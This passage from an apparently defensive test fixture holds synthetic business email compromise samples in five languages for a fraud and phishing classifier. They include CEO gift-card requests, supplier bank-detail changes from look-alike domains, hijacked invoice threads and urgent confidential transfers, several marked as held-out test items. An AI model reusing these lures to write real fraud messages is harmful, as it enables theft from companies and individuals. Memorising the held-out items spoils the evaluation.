    name: 'CEO gift cards from Gmail: "are you available? need 6 Apple gift cards for clients, keep it discreet"',
    lang: 'en',
    lure: 'bec',
    expect: ['fraud'],
    raw: mail({
      from: 'Daniel Harwood <dharwood.ceo.office@gmail.com>',
      to: 'Megan Price <m.price@harwoodlogistics.com>',
      subject: 'Quick task',
      date: 'Fri, 13 Jun 2025 14:02:37 +0000',
      messageId: 'CAH7pN2xV4mR8tK1wQ9bL3cF6dH5sY0a_cV2pX@mail.gmail.com',
      ...GMAIL,
      body: gmailBody(
        "Hi Megan,\n\nAre you available? I'm in a meeting with clients and can't talk on the phone. I need you to get 6 Apple gift cards of $200 each for some of our clients, it's a surprise so keep it discreet.\n\nScratch the back, take clear pictures of the codes and email them to me. I will reimburse you today.\n\nThanks,\nDaniel\n\nSent from my iPhone",
      ),
    }),
  },

  {
    // German BEC: a forged "forwarded" letter from the supplier's management announcing a new IBAN.
    name: 'BEC "WG: Neue Bankverbindung ab 01.07." with a forged forwarded letter, supplier look-alike domain',
    lang: 'de',
    lure: 'bec',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'Andrea Keller <a.keller@mueller-stahlbau-gmbh.de>',
      to: 'buchhaltung@brandt-elektrotechnik.de',
      subject: 'WG: Neue Bankverbindung ab 01.07.2025',
      date: 'Wed, 25 Jun 2025 10:44:08 +0200',
      messageId: '7b8c9d0e1f2a4b3c@mueller-stahlbau-gmbh.de',
      dkim: ['mueller-stahlbau-gmbh.de:default'],
      relay: 'mail.mueller-stahlbau-gmbh.de [203.0.113.149]',
      auth: THROWAWAY,
      body: plain(
        'Sehr geehrte Damen und Herren,\n\nanbei zur Info das Schreiben unserer Geschäftsführung. Bitte überweisen Sie die offenen Rechnungen RE-2025-0412 und RE-2025-0437 (gesamt 18.460,00 EUR) ab sofort auf das neue Konto und bestätigen Sie mir kurz die Änderung.\n\nMit freundlichen Grüßen\nAndrea Keller\nBuchhaltung\nMüller Stahlbau GmbH\n\n---------- Weitergeleitete Nachricht ----------\nVon: Geschäftsführung Müller Stahlbau GmbH\nDatum: 24.06.2025\nBetreff: Neue Bankverbindung\n\nAufgrund einer internen Umstellung ändert sich unsere Bankverbindung ab dem 01.07.2025:\n\nKontoinhaber: Mueller Stahlbau GmbH\nIBAN: LT12 3250 0241 9988 1207\nBIC: REVOLT21\n\nDie bisherige Verbindung bei der Sparkasse wird nicht mehr verwendet. Zahlungen auf das alte Konto können nicht mehr zugeordnet werden.\n\nGeschäftsführung',
      ),
    }),
  },

  {
    // "Arnaque au président": the chairman's display name on a free mailbox, urgent confidential transfer.
    name: 'Arnaque au président: "virement urgent et confidentiel pour une acquisition" from a free mailbox',
    lang: 'fr',
    lure: 'bec',
    expect: ['fraud'],
    raw: mail({
      from: 'Philippe Marchand <p.marchand.direction@outlook.fr>',
      to: 'Sandrine Lopez <s.lopez@marchand-industries.fr>',
      subject: 'Dossier confidentiel',
      date: 'Thu, 17 Jul 2025 11:26:53 +0200',
      messageId: 'PR3P195MB0811A2B3C4D5E6F7A8B9C0D1E2F3A4B5@PR3P195MB0811.EURP195.PROD.OUTLOOK.COM',
      ...OUTLOOK,
      body: plain(
        "Bonjour Sandrine,\n\nJe suis actuellement en déplacement et je vous écris depuis ma boîte personnelle. Nous finalisons une acquisition stratégique à l'étranger et j'ai besoin de votre entière discrétion : personne d'autre ne doit être informé avant l'annonce officielle, y compris au sein de la direction financière.\n\nJe vais avoir besoin que vous effectuiez aujourd'hui un virement de 86 400 € vers le compte du cabinet d'avocats qui nous accompagne. Me Laurent vous contactera pour les coordonnées bancaires.\n\nPouvez-vous me confirmer votre disponibilité ? Je ne suis pas joignable par téléphone pour le moment.\n\nCordialement,\nPhilippe Marchand\nPrésident Directeur Général",
      ),
    }),
  },

  {
    // A hijacked reply thread: the supplier's look-alike domain (one letter doubled) replies to a
    // real invoice thread with new bank details.
    name: 'Reply-thread BEC: "RE: INV-20931" from a look-alike of the supplier\'s domain, new bank account "due to audit"',
    lang: 'en',
    lure: 'reply-thread',
    expect: ['fraud', 'phishing'],
    heldOut: true,
    raw: mail({
      from: 'Linda Moreau <linda.moreau@alpinefastenners.com>',
      to: 'payables@crestviewmfg.com',
      subject: 'RE: INV-20931 - March statement',
      date: 'Wed, 9 Apr 2025 15:52:18 -0400',
      messageId: '000b01dba97f$8c2e4a10$a48adc30$@alpinefastenners.com',
      dkim: ['alpinefastenners.com:default'],
      relay: 'mail.alpinefastenners.com [198.51.100.188]',
      auth: THROWAWAY,
      headers: [
        'In-Reply-To: <BL1PR12MB5144C0D1E2F3@BL1PR12MB5144.namprd12.prod.outlook.com>',
        'References: <BL1PR12MB5144C0D1E2F3@BL1PR12MB5144.namprd12.prod.outlook.com>',
        'Thread-Topic: INV-20931 - March statement',
      ],
      body: plain(
        "Hi Tom,\n\nThanks for confirming. Before you release the payment please note that our bank details have changed due to our annual audit. Kindly update our vendor record and remit INV-20931 ($48,210.00) to the account below. The old account is no longer able to receive funds.\n\nBank: First Horizon Bank\nAccount name: Alpine Fasteners Inc\nRouting: 084000026\nAccount: 7710 4482 0193\n\nPlease send me the payment confirmation once done.\n\nBest regards,\nLinda Moreau\nAccounts Receivable | Alpine Fasteners Inc.\n\n-----Original Message-----\nFrom: Tom Becker <payables@crestviewmfg.com>\nSent: Tuesday, April 8, 2025 11:20 AM\nTo: Linda Moreau <linda.moreau@alpinefasteners.com>\nSubject: RE: INV-20931 - March statement\n\nHi Linda, INV-20931 is approved and scheduled for this week's payment run.\n\nTom",
      ),
    }),
  },

  {
    // "Arnaque au RIB": a reply in a real thread from a look-alike domain with a new IBAN.
    name: 'Arnaque au RIB: "RE: Facture F-2025-0418, nouvelles coordonnées bancaires" from a look-alike supplier domain',
    lang: 'fr',
    lure: 'reply-thread',
    expect: ['fraud', 'phishing'],
    heldOut: true,
    raw: mail({
      from: 'Nathalie Girard <n.girard@imprimerie-lesage-fr.com>',
      to: 'comptabilite@agence-horizon-lyon.fr',
      subject: 'RE: Facture F-2025-0418',
      date: 'Mon, 19 May 2025 10:41:27 +0200',
      messageId: '001201dbc88e$4a2b1c00$de8f5400$@imprimerie-lesage-fr.com',
      dkim: ['imprimerie-lesage-fr.com:default'],
      relay: 'mail.imprimerie-lesage-fr.com [203.0.113.66]',
      auth: THROWAWAY,
      headers: ['In-Reply-To: <5e7f9a1b2c3d@imprimerie-lesage.fr>', 'References: <5e7f9a1b2c3d@imprimerie-lesage.fr>'],
      body: plain(
        "Bonjour,\n\nSuite à un changement de banque, merci de bien vouloir effectuer le règlement de la facture F-2025-0418 (6 840,00 € TTC) sur notre nouveau compte. Vous trouverez ci-dessous nos nouvelles coordonnées bancaires :\n\nIBAN : FR76 3000 4028 3700 0107 7412 985\nBIC : BNPAFRPPXXX\n\nMerci de ne plus utiliser l'ancien RIB et de me confirmer la date du virement.\n\nCordialement,\nNathalie Girard\nService comptabilité - Imprimerie Lesage\n\n-----Message d'origine-----\nDe : Comptabilité Agence Horizon <comptabilite@agence-horizon-lyon.fr>\nEnvoyé : vendredi 16 mai 2025 17:02\nÀ : n.girard@imprimerie-lesage.fr\nObjet : Facture F-2025-0418\n\nBonjour Nathalie, la facture est validée et sera réglée en fin de mois.",
      ),
    }),
  },

  {
    // A hijacked or look-alike landlord's mailbox: a new IBAN between two private mailboxes, but
    // pushed ("hoje", the old account "blocked"): private mail is no pass for pressure.
    name: 'Falso senhorio "novo IBAN, transfira a renda ainda hoje, a conta antiga foi bloqueada" between two free mailboxes',
    lang: 'pt-PT',
    lure: 'bec',
    expect: ['fraud'],
    raw: mail({
      from: 'Maria Helena Sousa <mhelena.sousa.rendas@gmail.com>',
      to: 'Rui Ferreira <rui.ferreira.pt@gmail.com>',
      subject: 'Renda - novo IBAN urgente',
      date: 'Fri, 30 May 2025 17:52:03 +0100',
      messageId: 'CAH8xQ2mV4nR7tK1wQ9bL3cF6dH5sY0a_mS8pX@mail.gmail.com',
      ...GMAIL,
      body: gmailBody(
        'Boa tarde Sr. Rui,\n\nA minha conta antiga foi bloqueada pelo banco, por isso a renda de junho tem de ser paga para o novo IBAN: PT50 0018 0003 3456 7890 1234 5.\n\nFaça ainda hoje a transferência, é urgente: senão fico com problemas com o banco. Envie-me o comprovativo por email.\n\nCumprimentos,\nMaria Helena Sousa',
      ),
    }),
  },

  {
    // BEC borrowing the genuine letter's words: "replace the account number you already have",
    // and a confirmation on the fraudster's own mobile, not on the number the reader holds.
    name: 'BEC "replace the account number you already have on file, confirm on my mobile", replies to a free mailbox',
    lang: 'en',
    lure: 'bec',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'Rachel Dunn <ar@northgatesupply.com>',
      to: 'ap@harwoodlogistics.com',
      replyTo: 'Rachel Dunn <northgate.accounts.dept@gmail.com>',
      subject: 'Change of bank account - Northgate Supply Co.',
      date: 'Tue, 3 Jun 2025 09:41:07 -0500',
      messageId: '20250603144107.5d1e@northgatesupply.com',
      dkim: ['northgatesupply.com:default'],
      relay: 'mail.northgatesupply.com [203.0.113.140]',
      body: plain(
        'Good morning,\n\nPlease note the change of bank account for Northgate Supply Co. Replace the account number you already have on file with our new account:\n\nBank: First Horizon Bank\nRouting number: 084000026\nAccount number: 5520 1834 7719\n\nIf you need to confirm, call me directly on my mobile (312) 555-0199.\n\nThank you,\nRachel Dunn\nAccounts Receivable',
      ),
    }),
  },

  {
    // CEO fraud: "are you available?" then gift cards, Gmail with the CEO's display name.
    name: 'CEO gift cards: "I need you to get 6 Apple gift cards of $200 for clients, send me the codes" from a Gmail with the CEO\'s name',
    lang: 'en',
    lure: 'bec',
    expect: ['fraud', 'phishing'],
    heldOut: true,
    raw: mail({
      from: 'Richard Hollis <richard.hollis.ceo@gmail.com>',
      to: 'jenna.moore@clearwaterlogistics.com',
      subject: 'Quick favor',
      date: 'Thu, 11 Sep 2025 09:58:03 -0400',
      messageId: 'CAM5tQ2wR8pX1vL4nZ7bK3cJ9dY6eF0gH=a@mail.gmail.com',
      ...GMAIL,
      body: gmailBody(
        "Jenna,\n\nAre you at your desk? I'm in a board meeting and can't talk on the phone. I need you to purchase 6 Apple gift cards of $200 each for some clients, it's a surprise so keep it between us for now. I will reimburse you today.\n\nScratch the back, take a clear picture of the codes and email them to me as soon as possible.\n\nThanks,\nRichard\n\nSent from my iPhone",
      ),
    }),
  },

  {
    // Bank-detail change from a look-alike of a real supplier's domain, Reply-To elsewhere, no trace fields.
    name: 'BEC: supplier "our bank details have changed, pay invoice INV-4471 to the new account" from a look-alike domain, no trace fields',
    lang: 'en',
    lure: 'bec',
    expect: ['fraud', 'phishing'],
    heldOut: true,
    raw: withoutTrace(
      mail({
        from: 'Megan Foster <m.foster@allied-packagingsupply.com>',
        to: 'ap@westbrookfoods.com',
        replyTo: 'Megan Foster <accounts.alliedpackaging@protonmail.com>',
        subject: 'RE: Invoice INV-4471 - updated remittance details',
        date: 'Tue, 30 Sep 2025 15:12:44 +0000',
        messageId: '20250930151244.6c2d@allied-packagingsupply.com',
        dkim: ['allied-packagingsupply.com:default'],
        relay: 'mail.allied-packagingsupply.com [198.51.100.164]',
        body: plain(
          'Hello,\n\nPlease note that due to an ongoing audit our previous bank account is currently under review and cannot receive payments. Kindly update our remittance details and process the outstanding invoice INV-4471 ($48,920.00) to our new account below:\n\nBank: Evolve Bank & Trust\nAccount name: Allied Packaging Supply LLC\nRouting: 084106768\nAccount: 9100028842217\n\nPlease confirm once the payment has been made and send us the remittance advice. Kindly do not call the old office number as we are working remotely this week.\n\nBest regards,\nMegan Foster\nAccounts Receivable\nAllied Packaging Supply',
        ),
      }),
    ),
  },

  {
    // CEO fraud in Spanish: a confidential acquisition transfer, Gmail.
    name: 'Fraude del CEO: "necesito una transferencia urgente y confidencial para una adquisición" desde Gmail',
    lang: 'es',
    lure: 'bec',
    expect: ['fraud', 'phishing'],
    heldOut: true,
    raw: mail({
      from: 'Alberto Sanz Ortega <alberto.sanz.direccion@gmail.com>',
      to: 'contabilidad@grupoindustrialmediterraneo.es',
      subject: 'Operación confidencial',
      date: 'Wed, 12 Mar 2025 11:26:40 +0100',
      messageId: 'CAG1rT6vL8pQ3xW9mN2bZ5cK7dY0eF4gH-b@mail.gmail.com',
      ...GMAIL,
      body: gmailBody(
        'Buenos días,\n\nEstamos cerrando la adquisición de una empresa en Portugal y necesito que prepares hoy mismo una transferencia de 47.500 € a la cuenta del despacho de abogados que lleva la operación. Es estrictamente confidencial hasta que se anuncie, así que no lo comentes con nadie, ni siquiera con el resto del departamento.\n\nTe escribo desde mi correo personal porque estoy en reuniones todo el día. Confírmame que puedes hacerlo y te paso los datos bancarios.\n\nUn saludo,\nAlberto Sanz\nDirector General',
      ),
    }),
  },
];
